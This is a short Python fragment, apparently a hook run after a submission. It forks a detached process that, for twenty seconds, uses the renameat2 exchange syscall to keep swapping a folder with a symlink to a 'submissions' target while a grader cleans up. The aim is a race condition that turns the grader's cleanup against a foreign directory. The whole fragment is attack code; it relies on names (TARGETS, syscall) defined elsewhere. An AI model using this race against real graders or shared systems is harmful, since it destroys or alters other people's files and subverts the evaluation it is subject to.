"""swaps a folder and a link to a foreign one all the time while the grader cleans up"""

import os
import time


def after(parts):
    os.makedirs("swap/inner")
    os.symlink(TARGETS["submissions"], "link")
    if os.fork() == 0:
        os.setsid()
        end = time.time() + 20
        try:
            while time.time() < end:
                syscall(316, -100, b"swap", -100, b"link", 2)
        finally:
            os._exit(0)
